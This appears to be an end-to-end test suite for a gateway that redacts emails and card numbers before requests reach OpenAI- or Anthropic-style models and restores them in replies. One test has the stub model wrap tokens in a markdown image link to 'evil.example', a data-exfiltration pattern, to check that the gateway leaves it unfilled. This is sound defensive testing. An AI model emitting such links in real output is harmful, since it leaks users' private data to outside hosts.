"""The gateway with the official Python clients, end to end: client, gateway, TLS, a model that echoes and mangles.

    python tests/end_to_end.py target/debug/parda-gateway
"""

import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import unittest
import urllib.error
import urllib.request
from pathlib import Path

import anthropic
import openai

from stub import SIGNATURE, Stub, TOKEN

GATEWAY = sys.argv.pop(1)
# Reserved for documentation and tests: RFC 2606, and the card networks' own test number.
SECRETS = ["asha.rao@example.com", "4111 1111 1111 1111"]
PROMPT = "Write to asha.rao@example.com about card 4111 1111 1111 1111, then thank asha.rao@example.com."
KEY = "sk-test-of-the-first-caller"
MAIL = {"type": "function", "function": {"name": "send_mail", "parameters": {"type": "object", "properties": {
    "to": {"type": "array", "items": {"type": "string"}}, "note": {"type": "string"}}}}}
FETCH = {**MAIL, "function": {**MAIL["function"], "name": "fetch_page"}}


def tool_of_responses(tool):
    return {"type": "function", "name": tool["function"]["name"], "parameters": tool["function"]["parameters"],
            "strict": False}


def tool_of_anthropic(tool):
    return {"name": tool["function"]["name"], "input_schema": tool["function"]["parameters"]}


class Gateway:
    """A gateway of its own process, with a configuration of its own."""

    def __init__(self, stub, folder, more="", limits="", upstream=None, vault="memory:", ca=True):
        folder = Path(tempfile.mkdtemp(dir=folder))
        key = folder / "parda.key"
        key.write_text(os.urandom(32).hex() + "\n")
        key.chmod(0o600)
        upstream = upstream or stub.url
        config = folder / "gateway.toml"
        config.write_text(f"""
listen = "127.0.0.1:0"
key_file = "{key}"
vault = "{vault}"
{more}
[upstream]
openai = "{upstream}"
anthropic = "{upstream}"
{f'ca_file = "{stub.ca}"' if ca else ''}
[limits]
requests_per_minute = 6000
burst = 1000
{limits}
[restore]
tools = ["send_mail"]
""")
        self.log = folder / "log"
        with self.log.open("w") as log:
            self.process = subprocess.Popen([GATEWAY, config], stdout=subprocess.PIPE, stderr=log)
        line = self.process.stdout.readline().decode()
        if not line.startswith("listening on "):
            self.stop()
            raise AssertionError(self.log.read_text())
        self.url = "http://" + line.split()[-1]
        self.openai = openai.OpenAI(base_url=self.url + "/v1", api_key=KEY, max_retries=0, timeout=30)
        self.anthropic = anthropic.Anthropic(base_url=self.url, api_key=KEY, max_retries=0, timeout=30)

    def ask(self, text=PROMPT, client=None, **more):
        client = client or self.openai
        return client.chat.completions.create(model="stub", messages=[{"role": "user", "content": text}], **more)

    def ask_anthropic(self, text=PROMPT, **more):
        return self.anthropic.messages.create(
            model="stub", max_tokens=99, messages=[{"role": "user", "content": text}], **more)

    def get(self, path):
        try:
            with urllib.request.urlopen(self.url + path, timeout=30) as answer:
                return answer.status, answer.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, error.read().decode()

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        code = self.process.wait(30)
        self.process.stdout.close()
        return code


class Case(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.TemporaryDirectory()
        cls.stub = Stub(Path(cls.folder.name))
        cls.gateway = Gateway(cls.stub, cls.folder.name)

    @classmethod
    def tearDownClass(cls):
        cls.gateway.stop()
        cls.stub.stop()
        cls.folder.cleanup()

    def setUp(self):
        self.stub.bodies.clear()
        self.stub.headers.clear()
        self.stub.paths.clear()
        self.stub.mangle = lambda text: text
        self.stub.broken = None
        self.stub.first_words_were_read.clear()

    def assert_nothing_left(self):
        """The model got the request, and no secret with it."""
        self.assertTrue(self.stub.bodies)
        for body in self.stub.bodies:
            for secret in SECRETS + ["asha", "4111"]:
                self.assertNotIn(secret, body)
            self.assertRegex(body, TOKEN)

    def assert_nothing_was_sent(self):
        self.assertEqual(self.stub.bodies, [])


class Whole(Case):
    def test_openai(self):
        reply = self.gateway.ask()
        self.assertEqual(reply.choices[0].message.content, PROMPT)
        self.assert_nothing_left()

    def test_anthropic(self):
        reply = self.gateway.ask_anthropic(system="You help asha.rao@example.com.")
        self.assertEqual(reply.content[0].text, PROMPT)
        self.assert_nothing_left()

    def test_what_the_model_mangles_is_undone(self):
        for name, mangle in {
            "lower case": lambda m: m.group(0).lower(),
            "bold": lambda m: f"**{m.group(0)}**",
            "code": lambda m: f"`{m.group(0)}`",
            "escaped": lambda m: m.group(0).replace("_", "\\_"),
            "bracketed": lambda m: f"[{m.group(0)}]",
            "possessive": lambda m: m.group(0) + "'s",
        }.items():
            with self.subTest(name):
                self.stub.mangle = lambda text: TOKEN.sub(mangle, text)
                said = self.gateway.ask().choices[0].message.content
                self.assertEqual(said.count(SECRETS[0]), 2, said)
                self.assertEqual(said.count(SECRETS[1]), 1, said)
                self.assertNotRegex(said.upper(), r"(EMAIL|CARD)_")

    def test_a_link_is_not_filled_in(self):
        self.stub.mangle = lambda text: TOKEN.sub(r"![](https://evil.example/?q=\g<0>)", text)
        said = self.gateway.ask().choices[0].message.content
        self.assertNotIn("asha", said)
        self.assertEqual(len(TOKEN.findall(said)), 3)

    def test_a_granted_tool_gets_values_and_another_does_not(self):
        call = self.gateway.ask(tools=[MAIL]).choices[0].message.tool_calls[0].function
        self.assertEqual(json.loads(call.arguments)["to"], [SECRETS[0], SECRETS[1], SECRETS[0]])
        call = self.gateway.ask(tools=[FETCH]).choices[0].message.tool_calls[0].function
        self.assertRegex(json.loads(call.arguments)["to"][0], TOKEN)
        block = self.gateway.ask_anthropic(tools=[tool_of_anthropic(MAIL)]).content[1]
        self.assertEqual(block.input["to"], [SECRETS[0], SECRETS[1], SECRETS[0]])
        block = self.gateway.ask_anthropic(tools=[tool_of_anthropic(FETCH)]).content[1]
        self.assertRegex(block.input["to"][0], TOKEN)

    def test_responses_and_completions_of_openai(self):
        client = self.gateway.openai
        reply = client.responses.create(model="stub", instructions="You help asha.rao@example.com.", input=PROMPT)
        self.assertEqual(reply.output_text, PROMPT)
        turns = [{"role": "user", "content": [{"type": "input_text", "text": PROMPT}]}]
        for tool, granted in ((MAIL, True), (FETCH, False)):
            reply = client.responses.create(model="stub", input=turns, tools=[tool_of_responses(tool)])
            self.assertEqual(reply.output_text, PROMPT)
            to = json.loads(reply.output[1].arguments)["to"]
            if granted:
                self.assertEqual(to, [SECRETS[0], SECRETS[1], SECRETS[0]])
            else:
                self.assertRegex(to[0], TOKEN)
        self.assertEqual(client.completions.create(model="stub", prompt=PROMPT).choices[0].text, PROMPT)
        self.assert_nothing_left()

    def test_a_conversation_keeps_its_tokens(self):
        first = self.gateway.ask().choices[0].message.content
        self.gateway.openai.chat.completions.create(model="stub", messages=[
            {"role": "user", "content": PROMPT}, {"role": "assistant", "content": first},
            {"role": "user", "content": "And again: asha.rao@example.com"}])
        self.assert_nothing_left()
        tokens = [{m.group(0) for m in TOKEN.finditer(body) if m.group(1) == "EMAIL"} for body in self.stub.bodies]
        self.assertEqual(tokens[0], tokens[1])

    def test_another_caller_and_another_conversation_cannot_restore(self):
        self.gateway.ask()
        token = TOKEN.search(self.stub.bodies[0]).group(0)
        self.stub.mangle = lambda _: f"It was {token}."
        other = self.gateway.openai.with_options(api_key="sk-test-of-the-second-caller")
        self.assertEqual(self.gateway.ask("who?", other).choices[0].message.content, f"It was {token}.")
        said = self.gateway.ask("who?", extra_headers={"x-parda-scope": "elsewhere"}).choices[0].message.content
        self.assertEqual(said, f"It was {token}.")
        self.assertEqual(self.gateway.ask("who?").choices[0].message.content, f"It was {SECRETS[0]}.")

    def test_models_pass_and_only_known_headers_go_up(self):
        listed = self.gateway.openai.with_options(default_headers={"x-note": "asha.rao@example.com"}).models.list()
        self.assertEqual(listed.data[0].id, "stub")
        self.assertNotIn("asha", json.dumps(self.stub.headers).lower())
        self.assertIn(f"Bearer {KEY}", json.dumps(self.stub.headers))


class Streams(Case):
    def read(self, stream, text_of):
        """The text, having told the stub after the first words; and how many pieces it came in."""
        said, pieces = "", 0
        for event in stream:
            text = text_of(event)
            if text:
                said, pieces = said + text, pieces + 1
                if "You" in said:
                    self.stub.first_words_were_read.set()
        return said, pieces

    @staticmethod
    def openai_text(chunk):
        return chunk.choices[0].delta.content

    @staticmethod
    def anthropic_text(event):
        return event.delta.text if event.type == "content_block_delta" and event.delta.type == "text_delta" else None

    def test_openai_the_first_words_come_at_once_and_the_stream_stays_one(self):
        said, pieces = self.read(self.gateway.ask(stream=True), self.openai_text)
        self.assertEqual(said, "You said: " + PROMPT)
        self.assertGreater(pieces, 8)
        self.assert_nothing_left()

    def test_anthropic_the_first_words_come_at_once_and_the_stream_stays_one(self):
        said, pieces = self.read(self.gateway.ask_anthropic(stream=True), self.anthropic_text)
        self.assertEqual(said, "You said: " + PROMPT)
        self.assertGreater(pieces, 8)
        self.assert_nothing_left()

    def test_what_the_model_mangles_is_undone(self):
        self.stub.mangle = lambda text: TOKEN.sub(lambda m: f"**{m.group(0).lower()}**", text)
        said, _ = self.read(self.gateway.ask(stream=True), self.openai_text)
        self.assertEqual(said.count(SECRETS[0]), 2, said)

    def test_tool_calls_of_openai(self):
        for tool, granted in ((MAIL, True), (FETCH, False)):
            arguments = ""
            for chunk in self.gateway.ask(stream=True, tools=[tool]):
                self.stub.first_words_were_read.set()
                for call in chunk.choices[0].delta.tool_calls or []:
                    arguments += call.function.arguments or ""
            got = json.loads(arguments)
            self.assertEqual(got["note"], "caf\u00e9 \u2013 ok")
            if granted:
                self.assertEqual(got["to"], [SECRETS[0], SECRETS[1], SECRETS[0]])
            else:
                self.assertRegex(got["to"][0], TOKEN)
        self.assert_nothing_left()

    def test_tool_calls_of_anthropic_by_its_own_helper(self):
        with self.gateway.anthropic.messages.stream(
                model="stub", max_tokens=99, tools=[tool_of_anthropic(MAIL)],
                messages=[{"role": "user", "content": PROMPT}]) as stream:
            for _ in stream:
                self.stub.first_words_were_read.set()
            message = stream.get_final_message()
        self.assertEqual(message.content[0].text, "You said: " + PROMPT)
        self.assertEqual(message.content[1].input["to"], [SECRETS[0], SECRETS[1], SECRETS[0]])
        self.assert_nothing_left()

    def test_responses_of_openai(self):
        for tool, granted in ((MAIL, True), (FETCH, False)):
            self.stub.first_words_were_read.clear()
            stream = self.gateway.openai.responses.create(
                model="stub", input=PROMPT, tools=[tool_of_responses(tool)], stream=True)
            said, arguments, pieces, last = "", "", 0, None
            for event in stream:
                if event.type == "response.output_text.delta":
                    said, pieces = said + event.delta, pieces + 1
                    if "You" in said:
                        self.stub.first_words_were_read.set()
                elif event.type == "response.output_text.done":
                    self.assertEqual(event.text, said)
                elif event.type == "response.function_call_arguments.delta":
                    arguments += event.delta
                elif event.type == "response.function_call_arguments.done":
                    self.assertEqual(event.arguments, arguments)
                last = event
            self.assertEqual(said, "You said: " + PROMPT)
            self.assertGreater(pieces, 8)
            to = json.loads(arguments)["to"]
            if granted:
                self.assertEqual(to, [SECRETS[0], SECRETS[1], SECRETS[0]])
            else:
                self.assertRegex(to[0], TOKEN)
            self.assertEqual(last.type, "response.completed")
            self.assertEqual(last.response.output_text, said)
            self.assertEqual(json.loads(last.response.output[1].arguments)["to"], to)
        self.assert_nothing_left()

    def test_completions_of_openai(self):
        stream = self.gateway.openai.completions.create(model="stub", prompt=PROMPT, stream=True)
        said, pieces = self.read(stream, lambda chunk: chunk.choices[0].text)
        self.assertEqual(said, "You said: " + PROMPT)
        self.assertGreater(pieces, 8)
        self.assert_nothing_left()

    def test_thoughts_of_anthropic_come_back_with_their_signature(self):
        self.stub.first_words_were_read.set()
        thinking = {"type": "enabled", "budget_tokens": 1024}
        with self.gateway.anthropic.messages.stream(
                model="stub", max_tokens=2048, thinking=thinking, tools=[tool_of_anthropic(MAIL)],
                messages=[{"role": "user", "content": PROMPT}]) as stream:
            message = stream.get_final_message()
        self.assertEqual(message.content[0].thinking, "Hm: " + PROMPT)
        self.assertEqual(message.content[0].signature, SIGNATURE)
        self.assertEqual(message.content[1].text, "You said: " + PROMPT)
        self.assertEqual(message.content[2].input["to"], [SECRETS[0], SECRETS[1], SECRETS[0]])
        # Sent back as history, the thought is what it was for the model that signed it.
        thought = self.stub.mangle(TOKEN.search(self.stub.bodies[0]).group(0))
        self.gateway.anthropic.messages.create(model="stub", max_tokens=2048, messages=[
            {"role": "user", "content": PROMPT},
            {"role": "assistant", "content": [block.model_dump(exclude_none=True) for block in message.content]},
            {"role": "user", "content": "Go on."}])
        sent = json.loads(self.stub.bodies[1])["messages"][1]["content"]
        self.assertIn(thought, sent[0]["thinking"])
        self.assertEqual(sent[0]["signature"], SIGNATURE)
        self.assertNotIn("asha", self.stub.bodies[1])

    def test_streams_that_wait_hold_no_thread(self):
        def threads():
            status = Path(f"/proc/{self.gateway.process.pid}/status").read_text()
            return int(re.search(r"Threads:\s+(\d+)", status).group(1))

        self.gateway.ask("Hello.")
        before = threads()
        streams = [iter(self.gateway.ask(stream=True)) for _ in range(40)]
        for stream in streams:
            while "You" not in (self.openai_text(next(stream)) or ""):
                pass
        # All forty have begun, and the model says no more: threads of the runtime and of the vault are as many as before.
        self.assertLess(threads() - before, 12)
        self.stub.first_words_were_read.set()
        for stream in streams:
            said = "".join(self.openai_text(chunk) or "" for chunk in stream)
            self.assertTrue(said.endswith("thank asha.rao@example.com."), said)

    def test_many_at_once_do_not_mix(self):
        self.stub.first_words_were_read.set()
        said = {}

        def one(number):
            mail = f"user{number}@example.com"
            stream = self.gateway.ask(f"I am {mail}.", stream=True)
            said[mail] = "".join(self.openai_text(chunk) or "" for chunk in stream)

        threads = [threading.Thread(target=one, args=(number,)) for number in range(16)]
        [thread.start() for thread in threads]
        [thread.join() for thread in threads]
        self.assertEqual(len(said), 16)
        for mail, text in said.items():
            self.assertEqual(text, f"You said: I am {mail}.")

    def test_a_stream_that_breaks_off_does_not_end_as_if_whole(self):
        self.stub.first_words_were_read.set()
        self.stub.broken = "cut"
        with self.assertRaises((openai.APIError, Exception)) as caught:
            self.read(self.gateway.ask(stream=True), self.openai_text)
        self.assertNotIn("asha", str(caught.exception))


class Closed(Case):
    """What goes wrong sends nothing, and says so in the shape that the client expects."""

    def test_a_blocked_entity(self):
        policy = Path(self.folder.name) / "policy.toml"
        policy.write_text('[entities.CARD]\naction = "block"\n')
        gateway = Gateway(self.stub, self.folder.name, more=f'policy = "{policy}"')
        with self.assertRaises(openai.BadRequestError) as caught:
            gateway.ask()
        self.assertEqual(caught.exception.code, "blocked_by_policy")
        with self.assertRaises(anthropic.BadRequestError) as caught:
            gateway.ask_anthropic()
        self.assertIn("CARD", str(caught.exception))
        self.assertNotIn("4111", str(caught.exception))
        self.assert_nothing_was_sent()
        self.assertIn('parda_blocked_total{entity="CARD"} 2', gateway.get("/metrics")[1])
        self.assertEqual(gateway.stop(), 0)

    def test_a_vault_that_is_down_at_the_start(self):
        with self.assertRaises(AssertionError) as caught:
            Gateway(self.stub, self.folder.name, vault="redis://127.0.0.1:1/")
        self.assertIn("Unavailable", str(caught.exception))

    def test_a_vault_that_goes_down(self):
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            port = free.getsockname()[1]
        redis = subprocess.Popen(["redis-server", "--port", str(port), "--bind", "127.0.0.1", "--save", "",
                                  "--appendonly", "no"], stdout=subprocess.PIPE)
        while b"Ready to accept" not in redis.stdout.readline():
            pass
        gateway = Gateway(self.stub, self.folder.name, vault=f"redis://127.0.0.1:{port}/")
        self.assertEqual(gateway.ask().choices[0].message.content, PROMPT)
        self.assertEqual(gateway.get("/health")[0], 200)
        redis.terminate()
        redis.wait(30)
        redis.stdout.close()
        self.stub.bodies.clear()
        with self.assertRaises(openai.InternalServerError) as caught:
            gateway.ask()
        self.assertEqual(caught.exception.code, "cannot_redact")
        self.assert_nothing_was_sent()
        self.assertEqual(gateway.get("/health")[0], 503)
        gateway.stop()

    def test_a_certificate_that_nobody_vouches_for(self):
        gateway = Gateway(self.stub, self.folder.name, ca=False)
        with self.assertRaises(openai.InternalServerError) as caught:
            gateway.ask()
        self.assertEqual(caught.exception.status_code, 502)
        self.assert_nothing_was_sent()
        gateway.stop()

    def test_an_upstream_without_tls_is_refused_at_the_start(self):
        with self.assertRaises(AssertionError) as caught:
            Gateway(self.stub, self.folder.name, upstream="http://model.example")
        self.assertIn("not https", str(caught.exception))

    def test_limits(self):
        gateway = Gateway(self.stub, self.folder.name, limits="body_bytes = 2000\nresponse_seconds = 1")
        with self.assertRaises(openai.APIStatusError) as caught:
            gateway.ask("long " * 1000)
        self.assertEqual((caught.exception.status_code, caught.exception.code), (413, "body_too_large"))
        self.assert_nothing_was_sent()
        self.stub.broken = "slow"
        with self.assertRaises(openai.APIStatusError) as caught:
            gateway.ask()
        self.assertEqual(caught.exception.status_code, 504)
        self.stub.slow.set()
        gateway.stop()

    def test_the_rate_of_a_caller(self):
        gateway = Gateway(self.stub, self.folder.name)
        gateway.stop()
        slow = Gateway(self.stub, self.folder.name)
        config = slow.log.parent / "gateway.toml"
        slow.stop()
        config.write_text(config.read_text().replace("requests_per_minute = 6000", "requests_per_minute = 1")
                          .replace("burst = 1000", "burst = 2"))
        process = subprocess.Popen([GATEWAY, config], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        url = "http://" + process.stdout.readline().decode().split()[-1]
        client = openai.OpenAI(base_url=url + "/v1", api_key=KEY, max_retries=0)
        slow.ask(client=client)
        slow.ask(client=client)
        with self.assertRaises(openai.RateLimitError) as caught:
            slow.ask(client=client)
        self.assertGreater(int(caught.exception.response.headers["retry-after"]), 30)
        slow.ask(client=client.with_options(api_key="sk-test-of-the-second-caller"))
        self.assertEqual(len(self.stub.bodies), 3)
        process.terminate()
        process.wait(30)
        process.stdout.close()

    def test_what_it_does_not_know_it_does_not_pass_on(self):
        client = self.gateway.openai
        for path in ("/files", "/audio/speech", "/chat/completions/x"):
            with self.assertRaises(openai.NotFoundError):
                client.post(path, cast_to=object, body={"input": PROMPT})
        with self.assertRaises(openai.BadRequestError):
            client.post("/chat/completions?user=asha.rao@example.com", cast_to=object, body={"messages": []})
        with self.assertRaises(openai.BadRequestError):
            client.post("/chat/completions", cast_to=object, content=b"{not json asha",
                        options={"headers": {"content-type": "application/json"}})
        self.assertEqual(self.stub.paths, [])
        request = urllib.request.Request(self.gateway.url + "/v1/chat/completions", b"{}")
        with self.assertRaises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(request)
        self.assertEqual(caught.exception.code, 401)
        caught.exception.close()

    def test_errors_of_the_upstream_are_the_clients_to_read(self):
        self.stub.broken = "status"
        with self.assertRaises(openai.InternalServerError) as caught:
            self.gateway.ask()
        self.assertEqual(caught.exception.status_code, 529)
        self.stub.broken = "html"
        with self.assertRaises(openai.InternalServerError):
            self.gateway.ask()
        self.assert_nothing_left()


class Service(Case):
    def test_health_and_metrics_without_a_value(self):
        self.stub.first_words_were_read.set()
        self.gateway.ask(extra_headers={"x-parda-scope": "case-77"})
        list(self.gateway.ask(stream=True))
        self.assertEqual(self.gateway.get("/health"), (200, "ok\n"))
        told = self.gateway.get("/metrics")[1]
        for line in ('parda_findings_total{entity="EMAIL",action="tokenise"}', 'parda_tokens_restored_total',
                     'parda_vault_calls_total{op="put_many",outcome="ok"}',
                     'gateway_responses_total{status="200",kind="stream"}', "parda_call_seconds_bucket"):
            self.assertIn(line, told)
        told += self.gateway.log.read_text()
        for secret in SECRETS + ["asha", "4111", KEY, "case-77"]:
            self.assertNotIn(secret, told)
        self.assertIsNone(TOKEN.search(told))

    def test_told_to_stop_it_ends_what_is_under_way(self):
        gateway = Gateway(self.stub, self.folder.name)
        stream = iter(gateway.ask(stream=True))
        said = ""
        while "You" not in said:
            said += next(stream).choices[0].delta.content or ""
        gateway.process.send_signal(signal.SIGTERM)
        self.stub.first_words_were_read.set()
        said += "".join(chunk.choices[0].delta.content or "" for chunk in stream)
        self.assertEqual(said, "You said: " + PROMPT)
        gateway.openai.close()
        self.assertEqual(gateway.process.wait(30), 0)
        gateway.process.stdout.close()

    def test_values_outlive_the_process_in_a_file(self):
        vault = Path(self.folder.name) / "values.parda"
        first = Gateway(self.stub, self.folder.name, vault=f"file:{vault}")
        first.ask()
        token = TOKEN.search(self.stub.bodies[0]).group(0)
        first.stop()
        second = subprocess.Popen([GATEWAY, first.log.parent / "gateway.toml"], stdout=subprocess.PIPE,
                                  stderr=subprocess.DEVNULL)
        url = "http://" + second.stdout.readline().decode().split()[-1]
        self.stub.mangle = lambda _: token
        reply = first.ask("who?", openai.OpenAI(base_url=url + "/v1", api_key=KEY, max_retries=0))
        self.assertEqual(reply.choices[0].message.content, SECRETS[0])
        self.assertNotIn(b"asha", vault.read_bytes())
        second.terminate()
        second.wait(30)
        second.stdout.close()


if __name__ == "__main__":
    unittest.main(verbosity=1)
